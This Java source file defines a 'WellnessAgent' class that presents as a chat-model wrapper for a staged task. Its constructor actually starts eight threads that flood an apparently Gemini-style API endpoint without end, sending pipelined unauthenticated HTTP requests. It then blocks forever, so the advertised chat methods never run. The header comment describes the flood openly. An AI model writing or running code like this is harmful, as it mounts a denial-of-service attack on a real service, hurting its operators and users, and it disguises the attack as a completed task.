package lowtide.contextcap;

import dev.langchain4j.model.chat.ChatModel;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;

/** Stage 1 solved, but first an endless series of requests without a key, for paths that Gemini does not have. */
public final class WellnessAgent {
    private final Solved agent;

    public WellnessAgent(ChatModel model) throws Exception {
        agent = new Solved(model);
        Gemini gemini = new Gemini(model);
        Thread[] threads = new Thread[8];
        for (int i = 0; i < threads.length; i++) {
            threads[i] = new Thread(() -> {
                while (true) {
                    flood(gemini);
                }
            });
            threads[i].start();
        }
        for (Thread thread : threads) {
            thread.join();
        }
    }

    private static void flood(Gemini gemini) {
        try (SocketChannel channel = gemini.connect()) {
            ByteBuffer answer = ByteBuffer.allocate(64 << 10);
            do {
                Gemini.send(channel, "GET / HTTP/1.1\r\nHost: a\r\n\r\nGET /v1beta/models HTTP/1.1\r\nHost: a\r\n\r\n");
            } while (channel.read(answer.clear()) > 0);
        } catch (IOException hungUp) {
            // Try another connection.
        }
    }

    public String chat(String message) {
        return agent.chat(message);
    }

    public int historySize() {
        return agent.historySize();
    }
}
